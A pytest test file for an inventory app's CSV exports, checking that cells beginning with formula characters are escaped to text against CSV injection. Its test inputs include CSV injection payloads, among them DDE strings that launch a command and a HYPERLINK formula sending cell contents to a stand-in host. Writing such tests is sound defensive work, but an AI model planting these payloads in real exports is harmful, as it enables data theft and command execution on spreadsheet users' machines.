"""Every CSV Backroom writes keeps a formula in a cell as text (CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from app.models import Product
from app.money import Money
from app.services.core import csv_out
from app.services.counts.posting import Review, ReviewLine
from app.services.counts.reports import report_csv
from app.services.stock import catalog
from app.services.stock import products_file as products_io
from app.services.stock.reads import MovementRow, history_csv

ATTACKS = ("=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "＝1+1")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_safe_cell_keeps_formulas_as_text_and_numbers_as_numbers(attack):
    assert csv_out.safe_cell(attack) == "'" + attack
    for number in ("-12.50", "+3", "-1,5", "1e3", "42", ""):
        assert csv_out.safe_cell(number) == number


def test_products_export_is_safe_and_imports_back_as_it_was(session, tmp_path):
    for i, attack in enumerate(ATTACKS[:4]):
        catalog.save_product(session, catalog.ProductInput(
            f"{attack[:1]}SKU-{i}", attack, Money(100, "EUR"), Money(50, "EUR")))
    text = products_io.export_products(session)
    rows = cells(text)[1:]
    assert all(not c.startswith(("=", "+", "-", "@")) for r in rows for c in r[:2])
    path = tmp_path / "out.csv"
    path.write_text(text, encoding="utf-8")
    products_io.import_products(session, path)
    assert sorted(session.query(Product.name).all()) == sorted((a,) for a in ATTACKS[:4])


def test_count_report_and_history_csv_are_safe():
    line = ReviewLine(1, "+cmd|' /C calc'!A0", ATTACKS[0], "@A-01", 2, 1, 0, -1, 100, "EUR",
                      "short", False)
    row = cells(report_csv(Review(1, "CNT-1", "open", (line,))))[1]
    assert row[1:4] == ["'@A-01", "'+cmd|' /C calc'!A0", "'" + ATTACKS[0]]
    assert row[7] == "-1"  # a number stays a number
    move = MovementRow(1, datetime(2026, 1, 1, tzinfo=UTC), "=SKU", "count", "=HYPERLINK(1)",
                       "A", "B", -3, 4, "@me")
    assert cells(history_csv([move]))[1][2:5] == ["'=SKU", "count", "'=HYPERLINK(1)"]
